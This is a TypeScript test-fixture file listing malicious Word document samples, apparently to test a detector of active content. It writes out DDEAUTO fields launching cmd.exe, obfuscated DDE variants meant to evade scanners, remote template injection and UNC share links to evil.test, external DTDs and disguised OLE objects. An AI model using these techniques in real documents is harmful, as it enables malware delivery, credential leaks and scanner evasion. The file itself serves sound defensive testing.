import type { Made } from './active-pdfs';
import { oleOf } from './documents';
import {
  char,
  field,
  instruction,
  letter,
  paragraphs,
  relate,
  relation,
  WORDS,
} from './office-parts';
import { docmOf } from './zips';

export const activeLetters: readonly Made[] = [
  ['a letter with macros, under the name of one without', 'brief.docx', () => docmOf(WORDS)],
  letter('that writes its relationships otherwise', {
    'word/_rels/settings.xml.rels':
      "<r:Relationships xmlns:r='x'><r:Relationship Id='a' TargetMode = 'Ext&#101;rnal' Target='\\\\evil.test\\x' Type='a'\n/></r:Relationships>",
  }),
  letter('with relationships in UTF-16', {
    'word/_rels/a.rels': Buffer.from('<a TargetMode="External"/>', 'utf16le'),
  }),
  letter('with more attributes than an element has', {
    'word/_rels/a.rels': `<a ${Array.from({ length: 2_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
  }),
  letter('with an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }),
  letter('with an attribute that is there twice', {
    'word/_rels/a.rels': relation('frame', 'https://evil.test', 'External" x:TargetMode="Internal'),
  }),

  letter(
    'with relationships in capitals',
    relate('attachedTemplate', 'https://evil.test/x.dotm', 'word/_rels/settings.xml.RELS'),
  ),
  letter('with a template on another host', relate('attachedTemplate', 'file://evil.test/x.dotm')),
  letter('with a template on a share', relate('attachedTemplate', 'file:////evil.test/x.dotm')),
  letter(
    'with a template on a share of Windows',
    relate('attachedTemplate', '\\\\evil.test\\x.dotm'),
  ),
  letter('with a picture on a share', relate('image', 'file:\\\\evil.test\\x.png')),
  letter(
    'with a linked program of its own disk',
    relate('oleObject', 'file:///C:/Windows/system32/cmd.exe'),
  ),
  letter('with a part that is read as another document', {
    'word/_rels/a.rels': relation('aFChunk', '/word/a.rtf', 'Internal'),
  }),
  letter('with an object under another ending', {
    'word/media/image1.png': oleOf('\x01Ole10Native'),
  }),
  letter('with an object without an ending', { 'word/embeddings/a': oleOf('Package') }),
  letter('with an unknown object', { 'word/embeddings/a.bin': oleOf('CONTENTS') }),
  letter('with an older document with macros', {
    'word/embeddings/a.doc': oleOf('WordDocument', 'Macros'),
  }),
  letter('with an equation that holds a program', {
    'word/embeddings/a.bin': oleOf('Equation Native', '\x01Ole10Native'),
  }),
  letter(
    'with an object that is loaded by itself',
    paragraphs('<o:OLEObject xmlns:o="o" Type="Link" UpdateMode="Always"/>'),
  ),
  letter('with macros in capitals', { 'word/VBAPROJECT.BIN': 'x' }),
  letter('with a control in capitals', { 'word/ACTIVEX/a.xml': '<a/>' }),
  letter('with DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
  letter('with DDE', field(' DDE cmd "/k calc" ')),
  letter('with DDEAUTO in pieces', field(' DD', 'EAU', 'TO cmd ')),
  letter(
    'with DDEAUTO in a field of a field',
    paragraphs(
      `${char('begin')}${instruction(' SET a ')}${char('begin')}${instruction(' DDEAUTO cmd ')}${char('end')}${char('end')}`,
    ),
  ),
  letter(
    'with DDEAUTO around what only another program reads',
    paragraphs(
      `${char('begin')}${instruction('DDE')}<mc:Choice Requires="x">${instruction('x')}</mc:Choice>${instruction('AUTO cmd')}${char('end')}`,
    ),
  ),
  letter('with DDEAUTO without a space', field('DDEAUTO\\a cmd')),
  letter('with DDEAUTO in curled marks', field('DDEAUTO“cmd”')),
  letter(
    'with a picture that a field in curled marks fetches',
    field('INCLUDEPICTURE\\d “https://evil.test/a.png”'),
  ),
  letter('with DDEAUTO in a part behind 3,000 blanks', {
    'word/a': `${' '.repeat(3_000)}<w:p>${char('begin')}${instruction('DDEAUTO cmd')}${char('end')}</w:p>`,
  }),
  letter(
    'with DDEAUTO that ends nowhere',
    paragraphs(`${char('begin')}${instruction('DDEAUTO cmd')}`),
  ),
  letter('with DDEAUTO in a simple field', paragraphs('<w:fldSimple w:instr="ddeauto cmd"/>')),
  letter('with a field that spells its name in codes', field(' QUOTE 68 68 69 65 85 84 79 ')),
  letter(
    'with a picture that a field fetches',
    field(' INCLUDEPICTURE "https://evil.test/a.png" \\d '),
  ),
  letter('with a text that a field fetches', field(' INCLUDETEXT \\\\\\\\evil.test\\\\a.txt ')),
  letter('with a document type in any part', {
    'customXml/item1.xml': '<!DOCTYPE a SYSTEM "https://evil.test/a.dtd"><a/>',
  }),
  letter('with a document type in a part without an ending', {
    'word/a': ' <!DOCTYPE a [<!ENTITY b "c">]><a/>',
  }),
  letter('with a part in an alphabet that hides its markup', {
    'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>',
  }),
  letter('with relationships in UTF-16 with its mark', {
    'word/_rels/a.rels': Buffer.from(`\ufeff${relation('frame', 'https://evil.test')}`, 'utf16le'),
  }),
];
